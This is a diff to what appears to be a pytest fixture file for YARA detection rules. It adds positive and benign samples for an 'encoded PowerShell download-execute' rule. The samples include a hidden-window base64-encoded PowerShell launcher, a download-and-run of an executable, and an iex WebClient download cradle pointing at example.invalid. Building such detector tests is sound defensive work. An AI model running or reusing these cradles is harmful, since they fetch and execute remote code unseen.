@@ -5,6 +5,8 @@ The carried "executables" are the inert minimal images from yara_builders.
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 from yara_builders import b64, elf, params, pe, png
 
@@ -23,6 +25,20 @@ DROPPER_ESCAPED_ELF = f"open('/tmp/demo', 'wb').write({elf()[:32]!r})\n"
 DROPPER_ESCAPED_PE = f"HEADER = {pe()[:16]!r}\n"
 DROPPER_HEX_PE = f'HEADER = bytes.fromhex("{pe()[:16].hex()}")\n'
 DROPPER_LIST_ELF = f"HEADER = bytes({list(elf()[:24])})\n"
+
+
+
+def ps_encoded(script: str) -> str:
+    """A Python line launching PowerShell with -EncodedCommand (base64 of UTF-16LE)."""
+    enc = base64.b64encode(script.encode("utf-16le")).decode()
+    return f"subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {enc}', shell=True)\n"
+
+
+PS_DOWNLOAD_RUN = ('Invoke-WebRequest -Uri "https://example.invalid/tool.exe" -OutFile "$env:TEMP\\tool.exe"; '
+                   'Start-Process "$env:TEMP\\tool.exe"')
+PS_CRADLE = "iex (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')"
+PS_ENV_REPORT = "Get-ChildItem Env: | Out-String | Set-Content env.txt"
+PS_FETCH_JSON = 'Invoke-WebRequest -Uri "https://example.invalid/data.json" -OutFile data.json'
 
 MAGIC_CHECKS = """ELF_MAGIC = b"\\x7fELF"
 def kind(data):
@@ -49,6 +65,10 @@ POSITIVE = {
         ("pe-hex", lambda: DROPPER_HEX_PE),
         ("elf-byte-list", lambda: DROPPER_LIST_ELF),
     ],
+    "powershell_encoded_download_execute": [
+        ("download-start-process", lambda: ps_encoded(PS_DOWNLOAD_RUN)),
+        ("webclient-cradle", lambda: ps_encoded(PS_CRADLE)),
+    ],
 }
 
 BENIGN = {
@@ -62,6 +82,11 @@ BENIGN = {
         ("elf-binary-itself", elf),
         ("short-elf-prefix", lambda: "PREFIX = b'\\x7fELF\\x02\\x01'\n"),
         ("relocatable-object-hex", lambda: OBJECT_HEX),
+    ],
+    "powershell_encoded_download_execute": [
+        ("encoded-env-report", lambda: ps_encoded(PS_ENV_REPORT)),
+        ("encoded-download-no-run", lambda: ps_encoded(PS_FETCH_JSON)),
+        ("plain-text-cradle-words", lambda: "# never run: Invoke-WebRequest ... | Invoke-Expression\n"),
     ],
 }
 
